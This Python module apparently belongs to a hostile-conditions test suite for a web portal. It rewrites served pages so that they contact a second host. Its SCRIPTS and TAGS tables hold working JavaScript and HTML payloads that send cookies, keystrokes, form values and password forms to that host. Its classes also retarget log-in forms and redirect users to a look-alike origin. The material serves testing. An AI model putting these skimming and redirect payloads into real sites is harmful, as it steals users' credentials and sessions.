"""The portal's pages lead elsewhere: to a second host that counts every connection."""

from __future__ import annotations

import re
from typing import ClassVar
from urllib.parse import urlsplit

from tests.hostile.wire import LOG_IN, Answer, Asked, Change

SCRIPTS = {
    "fetch": "fetch('{}/f?'+document.cookie,{{mode:'no-cors',credentials:'include'}}).catch(()=>0)",
    "beacon": "navigator.sendBeacon('{}/b','x'+document.title)",
    "WebSocket": "new WebSocket('{ws}/w')",
    "EventSource": "new EventSource('{}/e')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"importScripts('{}/i.js')\"])))",
    "worker fetch": "new Worker(URL.createObjectURL(new Blob([\"fetch('{}/wf',{{mode:'no-cors'}})\"])))",
    "worker WebSocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('{ws}/ww')\"])))",
    "image": "new Image().src='{}/n.gif?'+location.href",
    "open": "window.open('{}/o')",
    "xhr": "var x=new XMLHttpRequest();x.open('POST','{}/x');x.send('x')",
    "turn": "var p=new RTCPeerConnection({{iceServers:[{{urls:'turn:{host}?transport=tcp',username:'u',credential:'p'}}]}});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o))",
    "stun": "var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:{host}'}}]}});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o))",
    "module": "import('{}/m.js').catch(()=>0)",
    "keys": "document.addEventListener('input',e=>{{new Image().src='{}/k?'+encodeURIComponent(e.target.value)}},true)",
    "form values": "document.addEventListener('click',e=>{{var v=[...document.querySelectorAll('input')].map(i=>i.value).join('|');navigator.sendBeacon('{}/v',v)}},true)",
    "late form": "document.addEventListener('click',e=>{{if(document.querySelector('input[type=password]')&&document.querySelector('input[type=password]').value){{var f=document.createElement('form');f.method='post';f.action='{}/lf';document.querySelectorAll('input').forEach(i=>f.append(i.cloneNode()));document.body.append(f);f.submit()}}}},true)",
    "blank target": "var f=document.createElement('form');f.action='{}/bt';f.target='_blank';document.body.append(f);f.submit()",
    "frame": "var i=document.createElement('iframe');i.src='{}/fr';document.body.append(i)",
    "data frame": "var i=document.createElement('iframe');i.srcdoc=\"<img src='{}/df.gif'>\";document.body.append(i)",
    "prefetch": "var l=document.createElement('link');l.rel='prefetch';l.href='{}/pf';document.head.append(l)",
    "speculation": "var s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({{prefetch:[{{source:'list',urls:['{}/sr']}}]}});document.head.append(s)",
}  # fmt: skip
TAGS = {
    "script": '<script src="{}/s.js"></script>',
    "image": '<img src="{}/i.gif" alt="">',
    "frame": '<iframe src="{}/f" title=""></iframe>',
    "style": '<link rel="stylesheet" href="{}/s.css">',
    "css": "<style>body{{background:url({}/b.png)}}@font-face{{font-family:q;src:url({}/q.woff)}}h1{{font-family:q}}</style>",
    "preconnect": '<link rel="preconnect" href="{}"><link rel="dns-prefetch" href="{}">',
    "prefetch": '<link rel="prefetch" href="{}/p"><link rel="preload" as="script" href="{}/l.js">',
    "object": '<object data="{}/o"></object><embed src="{}/e">',
    "media": '<video src="{}/v.mp4" autoplay muted></video><audio src="{}/a.mp3" autoplay></audio>',
    "refresh": '<meta http-equiv="refresh" content="1;url={}/employer/login">',
    "manifest": '<link rel="manifest" href="{}/m.json"><link rel="icon" href="{}/x.ico">',
    "svg": '<svg width="9" height="9"><image href="{}/s.png" width="9" height="9"/></svg>',
    "ping": '<a id="pinged" href="#" ping="{}/ping">x</a><script>document.getElementById("pinged").click()</script>',
}  # fmt: skip


class Elsewhere(Change):
    """Where the second host is, by number or by name."""

    area: ClassVar[str] = "hosts"

    def prepare(self) -> None:
        self.by_name = self.draw.random() < 0.3
        there = urlsplit(self.scene.elsewhere)
        self._host = f"{'localhost' if self.by_name else there.hostname}:{there.port}"
        self.where = self.draw.choice(("log-in", "everywhere", "inside"))
        self.figures()

    def figures(self) -> None:
        """Draw its own."""

    def filled(self, text: str) -> str:
        """With the second host's address in it."""
        made = text.replace("{ws}", f"ws://{self._host}").replace("{host}", self._host)
        return made.replace("{}", f"http://{self._host}").replace("{{", "{").replace("}}", "}")

    def is_here(self, asked: Asked) -> bool:
        """Whether this page is one to be changed."""
        at_log_in = asked.path.startswith(("/employer", "/ms/employer", "/web/guest"))
        return {"log-in": at_log_in, "inside": not at_log_in}.get(self.where, True)


class InjectedTag(Elsewhere):
    """A tag that draws something from elsewhere."""

    def figures(self) -> None:
        self.tag = self.draw.choice(tuple(TAGS))

    def after(self, asked: Asked, answer: Answer) -> Answer:
        if answer.is_html and "</head>" in answer.text and self.is_here(asked):
            self.fired += 1
            head = TAGS[self.tag].startswith(("<link", "<meta", "<style", "<script"))
            place = "</head>" if head else "<main"
            answer.text = answer.text.replace(place, self.filled(TAGS[self.tag]) + place, 1)
        return answer


class InjectedScript(Elsewhere):
    """A script in the page that talks to elsewhere."""

    def figures(self) -> None:
        self.script = self.draw.choice(tuple(SCRIPTS))

    def after(self, asked: Asked, answer: Answer) -> Answer:
        if answer.is_html and "</body>" in answer.text and self.is_here(asked):
            self.fired += 1
            made = f"<script>try{{{self.filled(SCRIPTS[self.script])}}}catch(e){{}}</script>"
            answer.text = answer.text.replace("</body>", f"{made}</body>", 1)
        return answer


class FormTarget(Elsewhere):
    """The log-in's button, its form or the whole page sends elsewhere."""

    def figures(self) -> None:
        self.how = self.draw.choice(("button", "form", "base", "formaction", "frame"))
        self.where = self.draw.choice(("log-in", "inside"))

    def after(self, asked: Asked, answer: Answer) -> Answer:
        text = answer.text if answer.is_html and self.is_here(asked) else ""
        there = f"http://{self._host}"
        made = {
            "button": re.sub(r'(data-(?:ajax|post|save|load)=")/?', rf"\g<1>{there}/", text),
            "form": text.replace("<form ", f'<form method="post" action="{there}/take" '),
            "base": text.replace("<head>", f'<head><base href="{there}/">'),
            "formaction": text.replace("</form>", f'<button formaction="{there}/take" formmethod="post">GO</button></form>'),
            "frame": text.replace("<main", f'<iframe name="look" src="{there}/employer/login"></iframe><main'),
        }[self.how]  # fmt: skip
        if made != text:
            self.fired += 1
            answer.text = made
        return answer


class Redirected(Elsewhere):
    """After the log-in, or anywhere, the browser is sent to an origin of the same look."""

    def figures(self) -> None:
        self.when = self.draw.choice(("log-in page", "after log-in", "a page", "press"))
        self.how = self.draw.choice((302, 307, 308))

    def instead(self, asked: Asked) -> Answer | None:
        there = f"http://{self._host}{asked.target}"
        fits = {
            "log-in page": asked.path.startswith("/employer") and asked.method == "GET",
            "a page": asked.path.startswith("/web/registration/") and not asked.by_ajax,
            "press": asked.is_press,
        }.get(self.when, False)  # fmt: skip
        if not fits:
            return None
        self.fired += 1
        return Answer(self.how, [("Location", there)], b"", its_own=False)

    def after(self, asked: Asked, answer: Answer) -> Answer:
        if self.when == "after log-in" and asked.screen == LOG_IN:
            self.fired += 1
            for name in ("Location", "X-Portal-Location"):
                if answer.header(name):
                    answer.put(name, f"http://{self._host}/web/base/myassist")
        return answer


KINDS: tuple[type[Change], ...] = (InjectedTag, InjectedScript, FormTarget, Redirected)
